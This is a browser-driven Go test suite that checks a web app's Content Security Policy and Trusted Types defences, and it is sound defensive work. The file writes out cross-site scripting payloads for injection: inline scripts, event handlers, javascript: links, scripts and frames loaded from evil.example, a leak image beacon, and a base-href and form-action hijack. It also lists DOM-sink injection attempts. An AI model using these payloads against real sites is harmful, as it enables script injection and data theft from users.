package office_test

import (
	"bytes"
	"net/http"
	"slices"
	"testing"

	"motcua/web/browsertest"
)

// holed puts a text into a page.
type holed struct {
	http.ResponseWriter
	text string
}

func (h holed) Write(page []byte) (int, error) {
	if _, err := h.ResponseWriter.Write(bytes.Replace(page, []byte("<main"), []byte(h.text+"<main"), 1)); err != nil {
		return 0, err
	}
	return len(page), nil
}

func (h holed) WriteHeader(status int) {
	h.Header().Del("Content-Length")
	h.ResponseWriter.WriteHeader(status)
}

// unescaped is what somebody would write into a text if a page put it out as it is.
const unescaped = `<div id="hole">
<script>window.ran = "an inline script"</script>
<svg><script>window.ran = "a script in a drawing"</script></svg>
<img src="/static/none.png" onerror="window.ran = 'an event handler'">
<a id="link" href="javascript:void(window.ran = 'an address')">x</a>
<script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,window.ran='data'"></script>
<iframe srcdoc="<script>parent.ran = 'a script in a frame'</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<img src="https://evil.example/leak?c=1">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>main { display: none }</style>
<p id="styled" style="position: fixed">x</p>
<base href="https://evil.example/">
<form id="leak" action="https://evil.example/" method="post"><input name="q" value="x"></form>
</div>`

// reported has the page note what the browser says that it has blocked.
const reported = `window.blocked = []; addEventListener("securitypolicyviolation", (e) => window.blocked.push(e.effectiveDirective + " " + e.blockedURI));`

// Given a page of the desk with a hole in its escaping, when a real browser opens it, then nothing that was written through the hole runs, loads or
// leads away, and the browser says so of each.
func TestAHoleInAPageRunsNothingInABrowser(t *testing.T) {
	p := open(t)
	code := p.secretDossier(t)
	b := p.tab(t, "quay.07")
	b.Before(reported)
	p.hole.Store(unescaped)
	for _, path := range []string{"/dossier/" + string(code), "/intake"} {
		b.Go(p.server.URL + path)
		b.Await("the hole", `document.getElementById("hole") && document.readyState === "complete"`)
		browsertest.Eval[any](b, `document.getElementById("link").click(), document.getElementById("leak").submit(), null`)
		for _, want := range []string{
			"script-src-elem inline", "script-src-attr inline", "script-src-elem https://evil.example/x.js", "script-src-elem data", "frame-src https://evil.example", "object-src https://evil.example",
			"img-src https://evil.example/leak?c=1", "style-src-elem https://evil.example/x.css", "style-src-elem inline", "style-src-attr inline", "base-uri https://evil.example/", "form-action https://evil.example/",
		} {
			b.Await("word of "+want, `window.blocked.some((b) => b.startsWith("`+want+`"))`)
		}
		if got := browsertest.Eval[string](b, `[window.ran ?? "", location.origin === "`+p.server.URL+`", getComputedStyle(document.querySelector("main")).display !== "none", getComputedStyle(document.getElementById("styled")).position, document.baseURI === location.href].join(" ")`); got != " true true static true" {
			t.Errorf("%s: %s", path, got)
		}
	}
}

// Given a script of ours that is tricked into making markup or script of a text, when it tries each way of a browser, then the text is refused
// before it is anything.
func TestNoTextBecomesMarkupOrScriptInABrowser(t *testing.T) {
	p := open(t)
	code := p.secretDossier(t)
	b := p.tab(t, "quay.07")
	b.Before(reported)
	b.Go(p.server.URL + "/dossier/" + string(code))
	b.Await("the page's scripts", `document.readyState === "complete" && document.querySelector("[data-dossier]")`)
	for name, try := range map[string]string{
		"innerHTML":          `document.querySelector("main").innerHTML = "<img src=x onerror=\"window.ran='innerHTML'\">"`,
		"outerHTML":          `document.querySelector("main p, main h1").outerHTML = "<b>x</b>"`,
		"insertAdjacentHTML": `document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
		"document.write":     `document.write("<script>window.ran='write'<\/script>")`,
		"parser":             `new DOMParser().parseFromString("<b>x</b>", "text/html")`,
		"range":              `document.createRange().createContextualFragment("<b>x</b>")`,
		"script's text":      `(() => { const s = document.createElement("script"); s.textContent = "window.ran='text'"; document.body.append(s); })()`,
		"script's address":   `(() => { const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s); })()`,
		"frame's document":   `(() => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.ran='frame'<\/script>"; document.body.append(f); })()`,
		"another policy":     `trustedTypes.createPolicy("evil", {createHTML: (x) => x})`,
		"our policy again":   `trustedTypes.createPolicy("office", {createHTML: (x) => x})`,
	} {
		if got := browsertest.Eval[string](b, `(() => { try { `+try+`; return "done"; } catch (e) { return e.name; } })()`); got != "TypeError" {
			t.Errorf("%s: %s", name, got)
		}
	}
	browsertest.Eval[any](b, `(() => {
		const s = document.createElement("script"); s.append("window.ran='a text node'"); document.body.append(s);
		const e = document.createElement("p"); try { e.setAttribute("onclick", "window.ran='an attribute'"); } catch {} document.body.append(e); e.click();
		setTimeout(() => { try { eval("window.ran='eval'"); } catch {} try { new Function("window.ran='Function'")(); } catch {} try { setTimeout("window.ran='setTimeout'"); } catch {} setTimeout(() => { window.tried = true; }, 50); }, 0);
		return null;
	})()`)
	b.Await("all of them", "window.tried")
	if ran := browsertest.Eval[string](b, `window.ran ?? ""`); ran != "" {
		t.Errorf("%s ran", ran)
	}
	all := browsertest.Eval[[]string](b, `window.blocked`)
	for _, want := range []string{"require-trusted-types-for trusted-types-sink", "trusted-types trusted-types-policy"} {
		if !slices.Contains(all, want) {
			t.Errorf("the browser does not report %s: %q", want, all)
		}
	}
}
